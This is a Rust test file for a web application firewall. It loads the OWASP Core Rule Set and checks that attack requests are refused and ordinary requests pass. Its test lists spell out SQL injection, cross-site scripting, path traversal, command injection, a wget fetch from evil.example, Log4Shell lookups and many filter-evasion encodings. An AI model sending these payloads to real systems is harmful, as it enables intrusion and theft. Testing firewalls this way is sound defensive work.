//! Debian's Core Rule Set 3.3: all of it loads, plain attacks are refused, plain requests pass.

use crate::{get, run};
use bastide_waf::{Files, Mode, RuleSet, Settings, Source, Verdict};
use std::{
    fs,
    path::Path,
    sync::{Arc, OnceLock},
};

const SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";
const RULES: &str = "/usr/share/modsecurity-crs/rules";

struct Beside;

impl Files for Beside {
    fn read(&self, from: &str, path: &str) -> Result<Vec<u8>, String> {
        fs::read(Path::new(from).parent().unwrap().join(path)).map_err(|error| error.to_string())
    }
    fn expand(&self, _: &str, _: &str) -> Result<Vec<String>, String> {
        Ok(Vec::new())
    }
}

fn compile(mode: Mode) -> Arc<RuleSet> {
    assert!(Path::new(RULES).exists(), "the package modsecurity-crs is missing: ./test installs it");
    let mut paths: Vec<_> = fs::read_dir(RULES).unwrap().map(|entry| entry.unwrap().path()).collect();
    paths.retain(|path| path.extension().is_some_and(|extension| extension == "conf"));
    paths.sort();
    paths.insert(0, SETUP.into());
    let sources: Vec<_> = paths
        .iter()
        .map(|path| Source { name: path.display().to_string(), bytes: fs::read(path).unwrap() })
        .collect();
    let settings = Settings { mode, ..Settings::default() };
    match RuleSet::compile(&sources, &Beside, &settings) {
        Ok(set) => Arc::new(set),
        Err(error) => panic!("{error}"),
    }
}

pub(crate) fn blocking() -> &'static Arc<RuleSet> {
    static SET: OnceLock<Arc<RuleSet>> = OnceLock::new();
    SET.get_or_init(|| compile(Mode::Block))
}

pub(crate) const BROWSER: &[(&str, &str)] = &[
    ("Host", "demo.apps.localhost:8443"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "en-US,en;q=0.5"),
    ("Accept-Encoding", "gzip, deflate, br"),
    ("Cookie", "session=abc123; theme=dark"),
];
const CURL: &[(&str, &str)] =
    &[("Host", "demo--development.apps.localhost:8443"), ("User-Agent", "curl/7.88.1"), ("Accept", "*/*")];

#[test]
fn all_rules_load() {
    assert!(blocking().rules() > 500, "{}", blocking().rules());
}

#[test]
fn plain_attacks_are_refused() {
    for target in [
        "/?id=1%27%20or%201=1--",
        "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?q=<script>alert(1)</script>",
        "/?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/../../etc/passwd",
        "/?f=../../../../etc/passwd",
        "/?f=..%2f..%2f..%2fetc%2fpasswd",
        "/?c=;cat%20/etc/passwd",
        "/?c=$(id)",
        "/?c=%7C%7C%20wget%20http://evil.example/x.sh",
        "/?f=php://input",
        "/?x=%24%7Bjndi%3Aldap%3A//evil.example/a%7D",
        "/.git/config",
    ] {
        let (verdict, ids) = get(blocking(), target, BROWSER);
        assert!(matches!(verdict, Verdict::Block { status: 403, .. }), "{target} passed; matched {ids:?}");
    }
    let scanner = [("Host", "a"), ("User-Agent", "sqlmap/1.5"), ("Accept", "*/*")];
    assert_ne!(get(blocking(), "/", &scanner).0, Verdict::Pass);
    let form = [BROWSER, &[("Content-Type", "application/x-www-form-urlencoded")]].concat();
    assert_ne!(
        run(blocking(), "POST", "/login", &form, b"user=admin'--&password=' or ''='").0,
        Verdict::Pass
    );
    let json = [BROWSER, &[("Content-Type", "application/json")]].concat();
    assert_ne!(
        run(blocking(), "POST", "/api", &json, br#"{"q":"1' UNION SELECT user, password FROM users--"}"#).0,
        Verdict::Pass
    );
}

#[test]
fn disguised_attacks_are_refused() {
    for target in [
        // Encoded twice, as %u, in full width, longer than need be, with NUL.
        "/?q=%253Cscript%253Ealert(1)%253C/script%253E",
        "/?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E",
        "/?q=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e",
        "/?q=%ef%bc%9cscript%ef%bc%9ealert(1)%ef%bc%9c/script%ef%bc%9e",
        "/?q=%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be",
        "/?q=<scr%00ipt>alert(1)</scr%00ipt>",
        // As entities, in JavaScript's and CSS's escapes.
        "/?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;",
        "/?q=%26%23x3c;script%26%23x3e;alert(1)",
        "/?q=%5Cu003cscript%5Cu003ealert(1)",
        "/?q=<img%20src=x%20onerror%0d=alert(1)>",
        "/?q=<svg/onload%09=alert(1)>",
        "/?q=<a%20href=jav%26%23x09;ascript:alert(1)>x</a>",
        // SQL with comments, letter case, odd white space, no white space.
        "/?id=1'/**/UnIoN/**/SeLeCt/**/password/**/FROM/**/users--",
        "/?id=1'%0bunion%0cselect%a0password%09from%0ausers--",
        "/?id=1'/*!50000union*/select(password)from(users)--",
        "/?id=1'||(select(1)from(users))||'",
        "/?id=-1'%20and%20'1'%3d'1",
        "/?id=1%20and%20sleep(5)",
        "/?id=1;waitfor%20delay%20'0:0:5'--",
        // Paths and shells.
        "/?f=..%252f..%252f..%252fetc%252fpasswd",
        "/?f=..%c0%af..%c0%afetc%c0%afpasswd",
        "/?f=..%5c..%5cwindows%5cwin.ini",
        "/?f=/etc/./passwd",
        "/?f=/etc//passwd",
        "/?c=;c'a't%20/etc/passwd",
        "/?c=;ca%5ct%20/etc/passwd",
        "/?c=%60id%60;cat%20/etc/passwd",
        "/?x=%24%7B%24%7Blower:j%7Dndi:ldap://evil.example/a%7D",
    ] {
        let (verdict, ids) = get(blocking(), target, BROWSER);
        assert_ne!(verdict, Verdict::Pass, "{target} passed; matched {ids:?}");
    }
}

#[test]
fn plain_requests_pass() {
    for headers in [BROWSER, CURL] {
        for target in [
            "/",
            "/hello/",
            "/hello/me",
            "/site/css/site.css",
            "/?page=2&sort=name",
            "/search?q=hello+world",
            "/a%20b/c.html",
            "/api/apps/hello",
            "/x?email=ann%40example.com&when=2026-11-24T10:00:00Z",
        ] {
            let (verdict, ids) = get(blocking(), target, headers);
            assert_eq!(verdict, Verdict::Pass, "{target} {ids:?}");
        }
    }
    let post = |kind: &'static str, body: &str| {
        let length = body.len().to_string();
        let headers = [BROWSER, &[("Content-Type", kind), ("Content-Length", &length)]].concat();
        let (verdict, ids) = run(blocking(), "POST", "/identity/login", &headers, body.as_bytes());
        assert_eq!(verdict, Verdict::Pass, "{kind} {body} {ids:?}");
    };
    post("application/x-www-form-urlencoded", "email=ann%40example.com&password=Correct-horse-9");
    post(
        "application/json",
        r#"{"name":"acme","administrator_email":"ann@example.com","note":"hello there"}"#,
    );
    post("application/json", r#"{"stage":"test"}"#);
}

#[test]
fn detect_tells_what_block_refuses() {
    let detecting = compile(Mode::Detect);
    let (verdict, ids) = get(&detecting, "/?id=1%27%20or%201=1--", BROWSER);
    assert_eq!(verdict, Verdict::Pass);
    assert!(ids.contains(&942_100), "{ids:?}");
}

/// The text of all rules: comments left out, lines joined.
pub(crate) fn text() -> String {
    let mut all = String::new();
    for entry in fs::read_dir(RULES).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|extension| extension == "conf") {
            let text = fs::read(path).unwrap();
            let text = String::from_utf8_lossy(&text).into_owned();
            let lines = text.lines().filter(|line| !line.trim_start().starts_with('#'));
            all.push_str(&lines.collect::<Vec<_>>().join("\n").replace("\\\n", ""));
            all.push('\n');
        }
    }
    all
}

/// Patterns of all rules, as their files hold them.
fn patterns() -> Vec<Vec<u8>> {
    let text = text();
    text.split("\"@rx ").chain(text.split("\"!@rx ")).skip(1).filter_map(until_quote).collect()
}

fn until_quote(text: &str) -> Option<Vec<u8>> {
    let mut escaped = false;
    let end = text.bytes().position(|byte| {
        let ends = byte == b'"' && !escaped;
        escaped = byte == b'\\' && !escaped;
        ends
    })?;
    Some(text[..end].replace("\\\"", "\"").into_bytes())
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(4))]

    /// Values are made from the patterns themselves, whole ones, changed ones and pieces, so that they match.
    #[test]
    fn no_filter_says_no_where_its_rule_says_yes(seed: u64, before in "[ -~]{0,4}") {
        let mut state = seed;
        let mut choose = |most: usize| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            (state >> 33) as usize % most.max(1)
        };
        let patterns = patterns();
        assert!(patterns.len() > 150, "{}", patterns.len());
        for pattern in &patterns {
            let Some(mut value) = bastide_waf::sample(pattern, &mut choose) else { continue };
            value.truncate(20_000);
            match choose(4) {
                0 => value.make_ascii_uppercase(),
                1 => value.splice(0..0, before.bytes()).for_each(drop),
                2 if !value.is_empty() => {
                    let at = choose(value.len());
                    value[at] = choose(256) as u8;
                }
                _ => {}
            }
            let mistaken = blocking().mistaken_filters(&value);
            assert!(mistaken.is_empty(), "{mistaken:?} on {}", value.escape_ascii());
        }
    }
}
